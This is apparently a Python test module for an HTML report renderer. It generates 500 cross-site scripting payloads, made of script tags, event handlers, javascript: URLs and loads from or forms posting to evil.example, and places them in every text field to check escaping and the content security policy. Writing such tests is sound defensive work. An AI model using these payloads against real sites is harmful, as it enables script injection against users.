"""Five hundred strings that try to be something other than text, and a run that has them in every text field."""

from __future__ import annotations

import re
from typing import Any

import jinja2
import msgspec
import pytest

from harness.campaign.records import CardRecord, CaseRecord, Catalogue, ExampleRecord, RunRecord
from property_tests import report_fixtures as fixtures
from reports import html, selection

POLICY = r'<meta http-equiv="Content-Security-Policy"[^>]*>'
_OPENINGS = (
    "", "\">", "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</svg>", "</template>",
    "</select>", "</noscript>", "\\u003c/script>", "*/", "`}", "{{''}}", "\x00", "\u2028", "&lt;/script&gt;",
)  # fmt: skip
_ACTS = (
    "<script>PWN</script>", "<img src=x onerror=PWN>", "<svg onload=PWN>", "<svg><script>PWN</script></svg>",
    "<details open ontoggle=PWN>", "<iframe srcdoc='<script>parent.PWN</script>'>",
    "<iframe src=javascript:parent.PWN>",
    "<input autofocus onfocus=PWN>", "<body onload=PWN>", "<video><source onerror=PWN></video>",
    "<style>@import 'http://evil.example/s.css';</style>", "<link rel=stylesheet href=http://evil.example/l.css>",
    "<img src=http://evil.example/i.png>", "<object data=http://evil.example/o></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href=http://evil.example/>",
    "<math><mtext><img src=x onerror=PWN></mtext></math>",
    "<a href=javascript:PWN autofocus onfocus=PWN tabindex=1>x</a>",
    " onerror=PWN onfocus=PWN autofocus x=", "<form action=http://evil.example/><button autofocus onfocus=PWN>",
    "<script src=http://evil.example/s.js></script>", "<xss style=animation-name:x onanimationstart=PWN>",
    "${PWN}", "javascript:PWN", "<!--<script>PWN</script>",
)  # fmt: skip
PAYLOADS = [opening + act.replace("PWN", "window.PWNED=1") for opening in _OPENINGS for act in _ACTS]
"""Twenty ways out of where a text stands, times twenty-five things to do outside."""

_FIXED = {"verdict", "dtype", "step", "errors_ulps", "ratios", "worst_ulps", "worst_ratio", "bound", "bounds", "mean"}
_FIXED |= {"largest", "float_difference", "exact_error", "sharpness", "schema"}
_KINDS = {"quantities", "curves", "flow", "graph"}
"""What is not free text: numbers that are written as texts, and words out of a fixed list."""


def _filled(value: Any, payload: str, inside: str = "") -> Any:
    """A record as plain data with every text in it, and every name of a dictionary, exchanged."""
    if isinstance(value, str):
        return payload
    if isinstance(value, list):
        return [_filled(one, payload, inside) for one in value]
    if isinstance(value, dict) and inside in ("notes", "reproduced", "params", "hypers", "environment"):
        return dict.fromkeys([payload], _filled(next(iter(value.values()), payload), payload)) if value else {}
    if isinstance(value, dict):
        keep = _FIXED | ({"kind"} if inside in _KINDS else set())
        if inside == "curves":
            keep |= {"values"}
        return {key: one if key in keep else _filled(one, payload, key) for key, one in value.items()}
    return value


def filled(payload: str, number: int, *, abridged: bool = False) -> CaseRecord:
    """A case with a payload in all its texts."""
    base = fixtures.hostile()
    base = msgspec.structs.replace(
        base, quantities=base.quantities[:1], kinks=base.kinks[:2], curves=base.curves[:2], flow=base.flow[:1],
        graph=base.graph[:3], seconds={},
    )  # fmt: skip
    made = msgspec.convert(_filled(msgspec.to_builtins(base), payload), CaseRecord)
    drawn = fixtures.generated(number, made, abridged=abridged)
    tested = msgspec.convert(_filled(msgspec.to_builtins(drawn.tested), payload), type(drawn.tested))
    return msgspec.structs.replace(drawn, id=payload, title=payload, dtype=payload, tested=tested)


def payload_run() -> tuple[RunRecord, list[CaseRecord]]:
    """A run with every payload in every text field of its own record and of its cases; every fifth case has no page."""
    cases = [filled(one, number, abridged=number % 5 == 0) for number, one in enumerate(PAYLOADS, 1)]
    some = PAYLOADS[:: len(PAYLOADS) // 20]
    catalogue = Catalogue(
        layers=PAYLOADS, losses=some, penalties=some, optimizers=some, schedules=some, clippings=some, dtypes=some,
        regimes=some, specials=some, branching=some,
        cards=[CardRecord(kind="layers", name=x, summary=x, maths=x, torch=x, jax=x) for x in PAYLOADS],
    )  # fmt: skip
    budgets = {"rounding budgets, in u": f"{PAYLOADS[4]} {PAYLOADS[5]}", "rounding budgets from": PAYLOADS[6]}
    record = fixtures.run(
        started=PAYLOADS[1], finished=PAYLOADS[2], implementations=[*fixtures.IMPLEMENTATIONS, *PAYLOADS[:3]],
        environment={**dict(zip(PAYLOADS, reversed(PAYLOADS), strict=True)), **budgets},
        store=PAYLOADS[3], catalogue=catalogue,
        examples=[ExampleRecord(key=one, title=one, source=one, shows=one) for one in PAYLOADS], generated=len(cases),
    )  # fmt: skip
    return record, cases


def rendered(*, careless: bool = False, asset: tuple[str, str, str] | None = None, policy: bool = False) -> str:
    """The page with all payloads, as a rule without the policy; `careless`: nothing escapes."""
    original = html.asset

    def changed(name: str) -> str:
        text = original(name)
        if asset and name == asset[0]:
            assert asset[1] in text
            text = text.replace(asset[1], asset[2])
        return text

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(selection, "PAGES", len(PAYLOADS))
        patch.setattr(html, "CASE_BYTES", 50_000_000)
        patch.setattr(html, "MOST_BYTES", 50_000_000)
        patch.setattr(html, "asset", changed)
        if careless:
            patch.setattr(html, "environment", lambda: jinja2.Environment(loader=jinja2.PackageLoader("reports")))  # noqa: S701
        run, cases = payload_run()
        guarded = html.render(run, cases, 50_000_000)
    text, removed = re.subn(POLICY, "", guarded)
    assert removed == 1
    return guarded if policy else text
